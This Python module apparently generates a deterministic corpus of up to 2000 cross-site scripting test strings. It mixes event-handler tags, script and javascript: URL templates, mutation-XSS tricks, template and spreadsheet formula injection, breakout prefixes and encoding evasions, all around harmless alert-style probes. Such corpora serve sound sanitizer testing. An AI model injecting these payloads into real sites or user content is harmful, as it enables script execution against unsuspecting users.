"""Texts that become scripts where a page takes text for markup. PM_XSS=N of them (default 2000)."""

import os
import random

COUNT = int(os.environ.get("PM_XSS", "2000"))
CALLS = ("alert(1)", "alert`1`", "window.hit=1", "top['al'+'ert'](1)", "confirm(document.domain)",
         "import('data:text/javascript,alert(1)')", "self[`\\x61lert`](1)", "print()")
TAGS = ("img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "marquee",
        "iframe", "object data=x", "select autofocus", "math", "style", "dialog open", "custom-tag tabindex=1")
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onbegin", "onmouseover", "onanimationstart",
          "onpointerenter", "onclick")
WHOLE = ("<script>{}</script>", "<script/src=data:,{}></script>", "<svg><script>{}</script>", "</title><script>{}</script>",
         "</textarea><script>{}</script>", "<a href=javascript:{}>x</a>", "<iframe srcdoc='<script>{}</script>'></iframe>",
         "<object data='data:text/html,<script>{}</script>'>", "<embed src='javascript:{}'>", "<form action=javascript:{}><button>",
         "<math><mtext><table><mglyph><style><img src=x onerror={}>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
         "<template><img src=x onerror={}></template>", "javascript:{}", "data:text/html,<script>{}</script>", "{{{{constructor.constructor('{}')()}}}}",
         "${{{}}}", "<!--><img src=x onerror={}>-->", "<![CDATA[<img src=x onerror={}>]]>", "<meta http-equiv=refresh content='0;javascript:{}'>",
         "<link rel=stylesheet href='javascript:{}'>", "<base href='javascript:{}//'>", "<svg><animate xlink:href=#x attributeName=href values=javascript:{} /></svg>",
         "<svg><set attributeName=onmouseover to={}>", "<x contenteditable onblur={}>lose focus</x>", "\u2028<img src=x onerror={}>",
         "<img src=`x` onerror=`{}`>", "<IMG SRC=JaVaScRiPt:{}>", "<div style='width:expression({})'>", "=HYPERLINK(\"javascript:{}\")")
BEFORE = ("", "\"", "'", "`", "\">", "'>", "--><", "</script>", "]]>", "&quot;>", "\\\">", "\x0c", "\u202e", "\u0085", "%3C", "&lt;")


def encoded(text, way):
    if way == 1:
        return "".join(f"&#{ord(c)};" if c in "<>" else c for c in text)
    if way == 2:
        return text.replace("<", "\\u003c").replace(">", "\\u003e")
    if way == 3:
        return text.replace(" ", "/").replace("on", "oN")
    if way == 4:
        return text.replace("<", "<\u0020").replace("=", " = ")
    return text


def attacks(count=None, seed=7):
    """Different ones each; the same with each run."""
    chance, found = random.Random(seed), {}
    while len(found) < (count or COUNT):
        call = chance.choice(CALLS)
        if chance.random() < 0.5:
            text = chance.choice(WHOLE).format(call)
        else:
            quote = chance.choice(("", "\"", "'"))
            text = f"<{chance.choice(TAGS)} {chance.choice(EVENTS)}={quote}{call}{quote}>"
        text = encoded(chance.choice(BEFORE) + text, chance.randrange(8))
        found[text[:200]] = True
    return list(found)
